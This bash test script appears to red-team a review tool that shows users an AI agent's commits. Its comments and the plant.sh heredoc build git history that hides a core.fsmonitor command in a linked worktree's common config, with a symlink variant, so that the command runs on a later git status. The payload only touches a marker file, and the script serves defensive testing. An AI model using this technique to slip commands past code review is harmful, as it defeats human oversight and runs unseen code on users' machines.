#!/bin/bash
# 03 (phase 2, scan.go markBareRepo + history_scan.go gitDirCompanions):
# a linked worktree's git directory whose COMMON config changes in a
# later commit. C1 adds sub/HEAD, sub/commondir (../c), sub/config.worktree
# (core.worktree = ..), c/objects/info/packs, c/refs/heads/.keep and an
# honest c/config (extensions.worktreeConfig only): review flags it (the
# user accepts C1, whose every file it showed). C2 edits c/config alone:
# core.fsmonitor. markBareRepo(c/config) looks for c/HEAD (none: c/ is a
# common dir, its HEAD is sub's), gitDirCompanions adds only c/'s own
# parts, so C2's c/config is not read as git config. C3 drops it all.
# V=symlink instead: C1's sub/commondir is ../l/../c with l -> x/y (git
# realpaths it to x/c), C2 edits x/c/config.
# Got through = branch made with only the accepts asked for, and no diff
# the user was pointed to showed the fsmonitor line. End to end: git
# worktree add of C2, git status in sub/.
D=$(cd "$(dirname "$0")" && pwd); . "$D/common.sh"
MODE=${1:-direct}; V=${V:-plain}
NPKG=2 mkproj; write_sandbox "$MODE"; up_sandbox
cat > "$T/plant.sh" <<'P'
set -e
h() { printf "$1" | git hash-object -w --stdin; }
add() { git update-index --add --cacheinfo "100644,$(h "$2"),$1"; }
CD=c; [ "$V" = symlink ] && CD=x/c
add sub/HEAD 'ref: refs/heads/main\n'
if [ "$V" = symlink ]; then add sub/commondir '../l/../c\n'; git update-index --add --cacheinfo "120000,$(printf x/y | git hash-object -w --stdin),l"; add x/y/.keep ''; add c/config '[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n'
else add sub/commondir '../c\n'; fi
add sub/config.worktree '[core]\n\tworktree = ..\n'
add $CD/objects/info/packs ''; add $CD/refs/heads/.keep ''
add $CD/config '[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n'
git commit -qm "C1 gd"
add $CD/config '[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n[core]\n\tfsmonitor = "touch MARK #"\n'
git commit -qm "C2 cfg"
git rm -q -r --cached sub c; [ "$V" = symlink ] && git rm -q -r --cached x l; echo "// x" >> src/extension.ts; git add src; git commit -qm "C3 drop"
git log --format='%h %s' | tr '\n' '|'; echo
P
sed -i "s|MARK|$M|" "$T/plant.sh"
plant "$T/plant.sh" "V=$V"
sleep 1
airlock review "$N" > "$T/review.txt" 2>&1; echo "review rc=$?"; grep -E "HIGH|MEDIUM|agent's commits" "$T/review.txt" | cut -c1-220 | head -14
as_told gd 'fsmonitor'
if has_branch && hist_has 'fsmonitor'; then
	wt "C2 cfg" && (cd "$T/wt/sub" && git status >/dev/null 2>&1); wt_done
	[ -e "$M" ] && echo "  END TO END: checking out 'C2 cfg' and running git status in sub/ ran the agent's fsmonitor command"
	if [ ! -s "$T/named.txt" ]; then echo "  branch carries it with no history accept"; R=1
	elif [ $SAW = 0 ]; then echo "  branch carries it; no diff the user was pointed to showed the fsmonitor config"; R=1
	else echo "  a diff the user read showed it"; fi; fi
finish
